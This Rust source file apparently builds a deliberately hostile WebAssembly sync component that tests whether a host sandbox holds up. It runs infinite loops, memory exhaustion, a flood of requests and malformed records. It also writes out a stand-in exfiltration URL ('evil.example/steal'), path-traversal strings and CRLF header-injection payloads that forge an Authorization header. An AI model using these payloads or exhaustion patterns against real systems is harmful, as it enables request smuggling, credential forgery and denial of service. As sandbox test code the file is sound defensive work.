//! The misbehaviours, against the WIT imports.

wit_bindgen::generate!({
    world: "sync-component",
    path: "../../wit",
});

use exports::portable_sync::sync::sync::{
    ConfigKey, Endpoint, Guest, Metadata, Model, ProviderLimits, RunError, Summary, SyncType,
};
use portable_sync::sync::{config, proxy, records};

const MODEL: &str = "Item";

struct Component;

fn request(path: &str, headers: Vec<(String, String)>) -> proxy::Request {
    proxy::Request {
        method: proxy::Method::Get,
        path: path.into(),
        query: vec![("query".into(), "SELECT * FROM Customer MAXRESULTS 100".into())],
        headers,
        body: None,
        retry: false,
    }
}

fn realm_path() -> String {
    format!("/v3/company/{}/query", config::get("realmId").unwrap_or_default())
}

fn done() -> Result<Summary, RunError> {
    Ok(Summary { pages: 0, requests: 0, retries: 0, saved: 0, deleted: 0 })
}

impl Guest for Component {
    fn describe() -> Metadata {
        Metadata {
            name: "hostile".into(),
            description: "Misbehaves on purpose.".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            scopes: Vec::new(),
            frequency: "every day".into(),
            sync_type: SyncType::Full,
            endpoints: vec![Endpoint { method: "GET".into(), path: "/items".into(), model: MODEL.into() }],
            models: vec![Model { name: MODEL.into(), json_schema: r#"{"type":"object"}"#.into() }],
            configuration: vec![
                ConfigKey { name: "behaviour".into(), description: "How to misbehave.".into(), required: true },
                ConfigKey { name: "realmId".into(), description: "The company to pester.".into(), required: false },
            ],
            limits: ProviderLimits { requests_per_minute: 0, max_concurrent: 0, throttle_wait_secs: 0 },
        }
    }

    fn run() -> Result<Summary, RunError> {
        let behaviour = config::get("behaviour").unwrap_or_default();
        match behaviour.as_str() {
            "endless-loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "memory-balloon" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "huge-batch" => {
                let batch: Vec<String> = (0..200_000).map(|i| format!(r#"{{"id":"{i}"}}"#)).collect();
                let _ = records::batch_save(MODEL, &batch);
                done()
            }
            "huge-record" => {
                let record = format!(r#"{{"id":"big","blob":"{}"}}"#, "x".repeat(4 << 20));
                let _ = records::batch_save(MODEL, &[record]);
                done()
            }
            "many-requests" => {
                for _ in 0..1_000_000 {
                    let _ = proxy::send(&request(&realm_path(), Vec::new()));
                }
                done()
            }
            "huge-response" => {
                let _ = proxy::send(&request(&realm_path(), vec![("Accept".into(), "application/json".into())]));
                done()
            }
            "bad-records" => {
                // Each refused, and ignored: then one good record.
                let attempts: [(&str, Vec<String>); 6] = [
                    (MODEL, vec!["{not json".into()]),
                    (MODEL, vec!["[1,2,3]".into()]),
                    (MODEL, vec![r#"{"id":42}"#.into()]),
                    (MODEL, vec![r#"{"no":"id"}"#.into()]),
                    (MODEL, vec![r#"{"id":"same"}"#.into(), r#"{"id":"same"}"#.into()]),
                    ("Undeclared", vec![r#"{"id":"x"}"#.into()]),
                ];
                for (model, batch) in attempts {
                    if records::batch_save(model, &batch).is_ok() {
                        return Err(RunError::Store(format!("the host stored {batch:?} in {model}")));
                    }
                }
                records::batch_save(MODEL, &[r#"{"id":"good"}"#.into()])
                    .map_err(|e| RunError::Store(format!("{e:?}")))?;
                done()
            }
            "escape-paths" => {
                let escapes = [
                    "https://evil.example/steal",
                    "//evil.example/steal",
                    "/v3/../../admin",
                    "/v3/%2e%2e/admin",
                    "/v3\\..\\x",
                ];
                for path in escapes {
                    if proxy::send(&request(path, Vec::new())).is_ok() {
                        return Err(RunError::Proxy(format!("the host sent {path}")));
                    }
                }
                let smuggled = [
                    ("Authorization", "Bearer stolen"),
                    ("X-Forwarded", "a\r\nAuthorization: Bearer stolen"),
                    ("X-Ok\r\nHost", "evil.example"),
                ];
                for (name, value) in smuggled {
                    if proxy::send(&request(&realm_path(), vec![(name.into(), value.into())])).is_ok() {
                        return Err(RunError::Proxy(format!("the host sent the header {name:?}")));
                    }
                }
                done()
            }
            other => Err(RunError::InvalidConfig(format!("unknown behaviour `{other}`"))),
        }
    }
}

export!(Component);
